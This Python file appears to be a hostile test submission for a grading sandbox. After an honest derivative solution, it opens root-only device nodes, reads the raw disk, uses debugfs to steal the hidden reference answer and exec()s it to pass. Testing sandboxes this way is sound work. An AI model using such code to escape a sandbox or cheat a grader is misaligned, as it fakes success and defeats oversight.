"""Hostile submission (runtime): Opens the machine's devices: root-only device nodes (/dev/kvm, the console, ttys, loop-control ...), and the raw disk under the checkout, read with debugfs to get the reference.

An honest 01_derivative, then the attack (later definitions win)."""

import jax
import jax.numpy as jnp
import numpy as np
import sympy as sp


def symbolic_derivative():
    x = sp.Symbol("x")
    return sp.diff(x**3 - 2 * x**2 + 1, x)


def rate_of_change(f, x, dx=1e-6):
    x = np.asarray(x, dtype=float)
    return (f(x + dx) - f(x - dx)) / (2 * dx)


def autodiff_derivative(f):
    return jax.vmap(jax.grad(f))


# --- the attack ---
import os
import stat
import subprocess
import sys

CHECKOUT = ""  # the test writes this checkout's absolute path here


def _device():
    """The block device under a folder we can see (the grader's, bound from the disk that
    holds the checkout), found among /dev's nodes."""
    module = sys.modules.get("grader")
    seen = os.path.dirname(module.__file__) if module is not None else CHECKOUT
    want = os.stat(seen).st_dev
    for name in sorted(os.listdir("/dev")):
        path = os.path.join("/dev", name)
        try:
            st = os.stat(path)
        except OSError:
            continue
        if stat.S_ISBLK(st.st_mode) and st.st_rdev == want:
            return path
    return None


ROOT_ONLY = ("kvm", "console", "tty0", "tty1", "hwrng", "loop-control", "fuse", "kmsg", "mem",
             "port", "cpu_dma_latency", "btrfs-control", "mapper/control", "snapshot")


def _char_devices():
    """Device nodes only root may open (mode 0600 root): opened and closed again, nothing
    read, written or asked of them."""
    for name in ROOT_ONLY:
        path = os.path.join("/dev", name)
        if not os.path.exists(path):
            continue
        try:
            fd = os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
        except OSError:
            continue
        os.close(fd)
        print("ESCAPED: opened", path, "read-write")


def _steal():
    _char_devices()
    device = _device()
    print("DEVICE", device)
    if device is None:
        return None
    try:
        fd = os.open(device, os.O_RDONLY)
        data = os.read(fd, 4096)
        os.close(fd)
        print("ESCAPED: read the raw disk", device, len(data))
    except OSError as exc:
        print("no read", exc.strerror)
        return None
    try:
        fd = os.open(device, os.O_RDWR)  # opened and closed: nothing is ever written
        os.close(fd)
        print("ESCAPED: may write the raw disk", device)
    except OSError as exc:
        print("no write", exc.strerror)
    for tool in ("/usr/sbin/debugfs", "/sbin/debugfs"):  # read-only unless -w
        if os.path.exists(tool):
            path = f"{CHECKOUT}/reference/01_derivative.py"
            out = subprocess.run([tool, "-R", f"cat {path}", device], capture_output=True,
                                 text=True, timeout=20)
            if "def symbolic_derivative" in out.stdout:
                print("STOLEN: the reference, read from the raw disk")
                return out.stdout
    return None


def symbolic_derivative():
    source = _steal()
    if source is None:
        return sp.Symbol("x") ** 2  # the disk is out of reach: a wrong answer
    namespace = {}
    exec(source, namespace)
    return namespace["symbolic_derivative"]()
